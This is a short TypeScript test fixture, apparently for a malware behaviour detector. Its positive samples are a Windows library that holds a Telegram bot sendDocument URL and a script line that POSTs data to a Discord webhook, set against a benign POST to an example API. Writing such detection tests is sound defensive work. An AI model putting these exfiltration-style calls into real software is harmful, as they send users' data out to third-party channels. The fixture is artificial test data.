import { type BehaviourSample, scriptFile, windowsFile } from "../behaviour.fixture.ts";

export const sample: BehaviourSample = {
  shows: [
    windowsFile({ form: "library", wide: ["https://api.telegram.org/bot123:abc/sendDocument"] }),
    scriptFile("a.js", 'fetch("https://discord.com/api/webhooks/1/abc", { method: "POST", body });\n'),
  ],
  lacks: [scriptFile("a.js", 'fetch("https://api.example.com/v1/report", { method: "POST", body });\n')],
};
